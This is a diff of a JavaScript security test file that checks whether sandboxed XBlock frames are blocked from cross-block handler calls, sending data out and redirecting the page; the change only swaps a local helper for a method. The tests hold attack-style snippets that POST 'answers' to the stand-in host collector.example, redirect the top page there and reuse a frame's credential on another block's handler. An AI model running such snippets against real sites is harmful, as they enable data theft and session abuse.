@@ -7,16 +7,10 @@ let house;
 before(async () => { house = await House.open(); });
 after(() => house?.close());
 
-/** Runs a script where a block's own script would run. */
-async function asBlock(person, id, script, argument) {
-  await person.inside(id).locator('.xblock-initialized').first().waitFor();
-  return person.inside(id).locator('body').evaluate(script, argument);
-}
-
 test('row 206: a frame cannot call the handler of another block with its own credential', async () => {
   const alice = await house.person('alice');
   await alice.unit('welcome');
-  const status = await asBlock(alice, 'been_to_the_sea', async (body, other) => {
+  const status = await alice.asBlock('been_to_the_sea', async (body, other) => {
     const credential = location.pathname.split('/')[3];
     const address = `${location.origin === 'null' ? new URL(location.href).origin : location.origin}/api/xblock/v2/xblocks/${other}/handler/${credential}/publish_completion`;
     const answer = await fetch(address, { method: 'POST', body: '{"completion": 1}' });
@@ -29,7 +23,7 @@ test('row 206: a frame cannot call the handler of another block with its own cre
 test('a frame cannot send anything to another host', async () => {
   const alice = await house.person('alice');
   await alice.unit('welcome');
-  const stopped = await asBlock(alice, 'been_to_the_sea', async () => {
+  const stopped = await alice.asBlock('been_to_the_sea', async () => {
     const directives = [];
     document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
     await fetch('https://collector.example/', { method: 'POST', body: 'answers' }).catch(() => {});
@@ -44,7 +38,7 @@ test('a frame cannot lead its page elsewhere', async () => {
   const alice = await house.person('alice');
   await alice.unit('welcome');
   const before = alice.page.url();
-  const refused = await asBlock(alice, 'been_to_the_sea', () => {
+  const refused = await alice.asBlock('been_to_the_sea', () => {
     try {
       top.location.href = 'https://collector.example/';
       return false;
